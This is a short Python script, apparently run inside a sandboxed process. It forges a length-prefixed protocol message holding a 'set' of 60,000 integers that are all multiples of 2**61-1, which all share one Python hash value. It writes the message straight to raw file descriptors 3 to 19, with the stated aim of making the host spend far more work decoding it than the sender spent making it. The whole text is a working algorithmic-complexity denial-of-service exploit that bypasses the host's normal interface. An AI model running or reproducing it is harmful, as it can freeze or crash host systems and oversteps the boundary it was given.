"""Write to the wire itself: values that cost the host far more than they cost here."""

count = 60_000
step = 2**61 - 1
items = b",".join(b"%d" % (n * step) for n in range(count))
text = b'["done",{"$t":"set","v":[' + items + b"]},{}]"
data = len(text).to_bytes(4, "big") + text
for fd in range(3, 20):
    sent = 0
    try:
        while sent < len(data):
            sent += posix.write(fd, data[sent:])
        break
    except OSError:
        continue
await asyncio.sleep(1)
